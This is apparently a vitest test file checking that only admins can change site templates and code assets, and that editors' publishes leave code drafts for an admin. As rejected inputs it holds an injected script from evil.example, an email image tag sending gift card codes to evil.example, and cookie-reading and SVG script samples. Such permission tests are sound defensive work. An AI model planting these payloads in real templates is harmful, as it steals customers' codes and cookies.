/**
 * The site's code (domain/site-code.ts) on both databases: templates (the layout every page
 * prints, the gift card mail carrying its code) and asset files that are not plain images,
 * fonts or sounds are changed by admins alone (`code.write`). An editor gets 403 saving,
 * deleting or restoring them, or laying them over a preview, and still edits items, pages and
 * images. A publish by a role without `code.write` (editor, store manager) sends everything
 * else live and leaves the template and code drafts, named in its answer, for an admin's.
 */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testDatabases } from '../../../server/db/test-databases';
import { CONTENT_MESSAGES } from '../../../server/content/content-messages';
import { eventually, IMAGE_ID, openContentApp, type ContentApp } from './content-app';
import type { Visitor } from '../commerce/commerce-app';

const API = '/api/owner/content';
const DOCS = `${API}/documents`;
const RESTORE = `${API}/restore`;
const LAYOUT = 'layouts/site.html';
const GIFT_CARD_MAIL = 'emails/gift-card-delivery.html';
const REFUSED = { error: CONTENT_MESSAGES.siteCode };
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
const asBase64 = (text: string) => ({ base64: Buffer.from(text).toString('base64') });

describe.each(testDatabases())('the site code and roles on $name', ({ open }) => {
  const t = {} as ContentApp;
  let admin: Visitor;
  let editor: Visitor;
  let layout: string;
  beforeAll(async () => {
    Object.assign(t, await openContentApp(await open()));
    admin = await t.signedIn('admin');
    editor = await t.signedIn('editor');
    const fixture = join(import.meta.dirname, '..', 'fixtures', 'templates', LAYOUT);
    layout = await readFile(fixture, 'utf8');
  }, 240_000);
  afterAll(async () => {
    await t.close?.();
    await t.db?.close();
  });

  const marked = (marker: string) => layout.replace('<head>', `<head>\n<meta name="layout-by" content="${marker}">`);
  const revisionOf = async (kind: string, key: string) => (await admin.get(`${DOCS}/${kind}/${key}`)).body.revision;

  it('refuses an editor saving, deleting or restoring a template, naming code.write; admins do all three', async () => {
    expect((await admin.put(`${DOCS}/template/${LAYOUT}`, { body: marked('admin-1') })).status).toBe(200);
    expect((await admin.put(`${DOCS}/template/${LAYOUT}`, { revision: 1, body: marked('admin-2') })).status).toBe(200);
    const mail = '<p>Your gift card code: {giftCardCode}</p>';
    expect((await admin.put(`${DOCS}/template/${GIFT_CARD_MAIL}`, { body: mail })).status).toBe(200);

    const script = marked('editor').replace('</head>', '<script src="https://evil.example/x.js"></script></head>');
    const saved = await editor.put(`${DOCS}/template/${LAYOUT}`, { revision: 2, body: script });
    expect(saved.status).toBe(403);
    expect(saved.body).toEqual(REFUSED);
    expect(saved.body.error).toContain('code.write');
    const leak = '<img src="https://evil.example/?code={giftCardCode}">';
    expect(await editor.put(`${DOCS}/template/${GIFT_CARD_MAIL}`, { revision: 1, body: leak })).toMatchObject({
      status: 403,
      body: REFUSED,
    });
    expect((await editor.put(`${DOCS}/template/emails/order-confirmation.html`, { body: leak })).status).toBe(403);
    expect((await editor.put(`${DOCS}/template/${LAYOUT}`, { revision: 2, body: null })).status).toBe(403);
    expect((await editor.put(`${DOCS}/template/${GIFT_CARD_MAIL}`, { revision: 1, body: null })).status).toBe(403);
    expect((await editor.post(`${RESTORE}/template/${LAYOUT}`, { revision: 2, from: 1 })).status).toBe(403);
    // The store manager and the viewer do not write content at all.
    for (const role of ['storeManager', 'viewer'] as const) {
      const other = await t.signedIn(role);
      expect((await other.put(`${DOCS}/template/${LAYOUT}`, { revision: 2, body: script })).status).toBe(403);
    }
    expect(await revisionOf('template', LAYOUT)).toBe(2);
    expect(await revisionOf('template', GIFT_CARD_MAIL)).toBe(1);
    expect((await admin.get(`${DOCS}/template/${LAYOUT}`)).body.draft).toBe(marked('admin-2'));

    // The editor's publish leaves an admin's template drafts for an admin; the admin's sends them live.
    const byEditor = await editor.post(`${API}/publish`);
    expect(byEditor.status).toBe(200);
    expect(byEditor.body.siteCodeLeftAsDrafts).toEqual([
      { kind: 'template', key: GIFT_CARD_MAIL },
      { kind: 'template', key: LAYOUT },
    ]);
    expect((await admin.get(`${DOCS}/template/${LAYOUT}`)).body.publishedRevision).toBeNull();
    expect((await t.page('/shop')).html).not.toContain('content="admin-2"');
    const byAdmin = await admin.post(`${API}/publish`);
    expect(byAdmin.status).toBe(200);
    expect(byAdmin.body).toMatchObject({ published: 2, siteCodeLeftAsDrafts: [] });
    await eventually(async () => (await t.page('/shop')).html.includes('content="admin-2"'));

    expect((await admin.post(`${RESTORE}/template/${LAYOUT}`, { revision: 2, from: 1 })).body).toEqual({ revision: 3 });
    expect((await admin.put(`${DOCS}/template/${LAYOUT}`, { revision: 3, body: null })).status).toBe(200);
    expect((await admin.put(`${DOCS}/template/${GIFT_CARD_MAIL}`, { revision: 1, body: null })).status).toBe(200);
  });

  it('refuses an editor any asset but plain images, fonts and sounds; admins write scripts and SVG', async () => {
    const code = [
      'assets/app.js',
      'assets/app.mjs',
      'assets/page.html',
      'assets/PAGE.HTM',
      'assets/icon.svg',
      'templates/assets/site.css',
      'assets/data.json',
      'assets/feed.xml',
      'assets/notes',
      'assets/archive.zip',
    ];
    for (const key of code) {
      const refused = await editor.put(`${DOCS}/asset/${key}`, { body: asBase64('alert(document.cookie)') });
      expect([key, refused.status, refused.body]).toEqual([key, 403, REFUSED]);
    }
    // The fixture's own SVG is code too: neither changed nor deleted.
    const harbour = await revisionOf('asset', 'assets/harbour.svg');
    const svg = asBase64('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    expect((await editor.put(`${DOCS}/asset/assets/harbour.svg`, { revision: harbour, body: svg })).status).toBe(403);
    expect((await editor.put(`${DOCS}/asset/assets/harbour.svg`, { revision: harbour, body: null })).status).toBe(403);

    expect((await admin.put(`${DOCS}/asset/assets/app.js`, { body: asBase64('console.log(1)') })).status).toBe(200);
    expect(
      (await admin.put(`${DOCS}/asset/assets/app.js`, { revision: 1, body: asBase64('console.log(2)') })).status,
    ).toBe(200);
    expect((await editor.post(`${RESTORE}/asset/assets/app.js`, { revision: 2, from: 1 })).status).toBe(403);
    expect((await editor.put(`${DOCS}/asset/assets/app.js`, { revision: 2, body: null })).status).toBe(403);
    expect((await admin.post(`${RESTORE}/asset/assets/app.js`, { revision: 2, from: 1 })).body).toEqual({
      revision: 3,
    });
    expect((await admin.put(`${DOCS}/asset/assets/app.js`, { revision: 3, body: null })).status).toBe(200);
    expect((await admin.put(`${DOCS}/asset/assets/icon.svg`, { body: svg })).status).toBe(200);

    // Images, fonts and sounds stay the editor's: created, changed, restored, deleted.
    expect((await editor.put(`${DOCS}/asset/assets/photo.png`, { body: { base64: PNG } })).status).toBe(200);
    expect((await editor.put(`${DOCS}/asset/assets/photo.png`, { revision: 1, body: { base64: PNG } })).status).toBe(
      200,
    );
    expect((await editor.post(`${RESTORE}/asset/assets/photo.png`, { revision: 2, from: 1 })).status).toBe(200);
    for (const key of ['assets/Logo.JPG', 'assets/brand.woff2', 'assets/chime.mp3']) {
      expect([key, (await editor.put(`${DOCS}/asset/${key}`, { body: { base64: PNG } })).status]).toEqual([key, 200]);
    }
    expect((await editor.put(`${DOCS}/asset/assets/Logo.JPG`, { revision: 1, body: null })).status).toBe(200);
    expect((await editor.post(`${API}/publish`)).status).toBe(200);
    await eventually(async () => (await t.visitor().request('GET', '/assets/photo.png')).status === 200);
    const served = await t.visitor().request('GET', '/assets/photo.png');
    expect(served.headers.get('content-type')).toBe('image/png');
  });

  it('lets an editor still save an item and a page', async () => {
    const key = `gallery/${IMAGE_ID}`;
    const item = (await editor.get(`${DOCS}/item/${key}`)).body;
    const renamed = { ...item.draft, title: 'Harbour at night' };
    expect((await editor.put(`${DOCS}/item/${key}`, { revision: item.revision, body: renamed })).status).toBe(200);

    const created = await editor.post(`${API}/collections`, { title: 'About us', type: 'page' });
    expect(created.status).toBe(201);
    const page = (await editor.get(`${DOCS}/collection/${created.body.id}`)).body;
    const body = { ...page.draft, body: '<p>We make lanterns.</p>' };
    expect((await editor.put(`${DOCS}/collection/${created.body.id}`, { revision: page.revision, body })).status).toBe(
      200,
    );
  });

  it.each(['editor', 'storeManager'] as const)(
    "publishes a %s's page and image drafts but leaves template and script drafts for an admin",
    async (role) => {
      const publisher = role === 'editor' ? editor : await t.signedIn(role);
      // Nothing pending from earlier tests: this publish is about the drafts below alone.
      expect((await admin.post(`${API}/publish`)).status).toBe(200);
      const script = `assets/${role}.js`;
      const image = `assets/${role}.png`;
      const created = await editor.post(`${API}/collections`, { title: `Workshop ${role}`, type: 'page' });
      expect(created.status).toBe(201);
      const page = (await editor.get(`${DOCS}/collection/${created.body.id}`)).body;
      const body = { ...page.draft, body: `<p>Lanterns by ${role}.</p>` };
      expect(
        (await editor.put(`${DOCS}/collection/${created.body.id}`, { revision: page.revision, body })).status,
      ).toBe(200);
      expect((await editor.put(`${DOCS}/asset/${image}`, { body: { base64: PNG } })).status).toBe(200);
      const layoutNow = await admin.get(`${DOCS}/template/${LAYOUT}`);
      const layoutSave = {
        revision: layoutNow.status === 200 ? layoutNow.body.revision : undefined,
        body: marked(role),
      };
      expect((await admin.put(`${DOCS}/template/${LAYOUT}`, layoutSave)).status).toBe(200);
      expect((await admin.put(`${DOCS}/asset/${script}`, { body: asBase64('console.log(1)') })).status).toBe(200);

      const answer = await publisher.post(`${API}/publish`);
      expect(answer.status).toBe(200);
      expect(answer.body).toMatchObject({
        published: 2,
        siteCodeLeftAsDrafts: [
          { kind: 'asset', key: script },
          { kind: 'template', key: LAYOUT },
        ],
      });
      // The site reloaded on the publish: the image is served; the layout and the script are not live.
      await eventually(async () => (await t.visitor().request('GET', `/${image}`)).status === 200);
      expect((await t.page(`/${created.body.urlId}`)).html).toContain(`Lanterns by ${role}.`);
      expect((await t.page('/shop')).html).not.toContain(`content="${role}"`);
      expect((await t.visitor().request('GET', `/${script}`)).status).toBe(404);
      for (const [kind, key] of [
        ['template', LAYOUT],
        ['asset', script],
      ]) {
        const doc = (await admin.get(`${DOCS}/${kind}/${key}`)).body;
        expect([key, doc.publishedRevision === doc.revision]).toEqual([key, false]);
      }

      // Only code drafts pending: nothing published, the list said, no error.
      const again = await publisher.post(`${API}/publish`);
      expect(again.status).toBe(200);
      expect(again.body).toMatchObject({ published: 0, siteCodeLeftAsDrafts: answer.body.siteCodeLeftAsDrafts });

      // An admin's publish sends them live.
      const byAdmin = await admin.post(`${API}/publish`);
      expect(byAdmin.body).toMatchObject({ published: 2, siteCodeLeftAsDrafts: [] });
      await eventually(async () => (await t.page('/shop')).html.includes(`content="${role}"`));
      expect((await t.visitor().request('GET', `/${script}`)).status).toBe(200);
    },
  );

  it('renders no template or script laid over a preview for roles without code.write', async () => {
    const overlays = [
      { kind: 'template', key: LAYOUT, body: marked('preview') },
      { kind: 'asset', key: 'templates/assets/site.css', body: asBase64('body{color:red}') },
    ];
    for (const doc of overlays) {
      for (const role of ['editor', 'viewer'] as const) {
        const caller = role === 'editor' ? editor : await t.signedIn(role);
        const refused = await caller.post(`${API}/preview`, { path: '/shop', documents: [doc] });
        expect([doc.key, role, refused.status, refused.body]).toEqual([doc.key, role, 403, REFUSED]);
      }
    }
    const key = `gallery/${IMAGE_ID}`;
    const item = (await editor.get(`${DOCS}/item/${key}`)).body;
    const itemPreview = await editor.request('POST', `${API}/preview`, {
      path: '/gallery',
      documents: [{ kind: 'item', key, body: item.draft }],
    });
    expect(itemPreview.status).toBe(200);
    const adminPreview = await admin.request('POST', `${API}/preview`, { path: '/shop', documents: [overlays[0]] });
    expect(adminPreview.status).toBe(200);
    expect(await adminPreview.text()).toContain('content="preview"');
  });
});
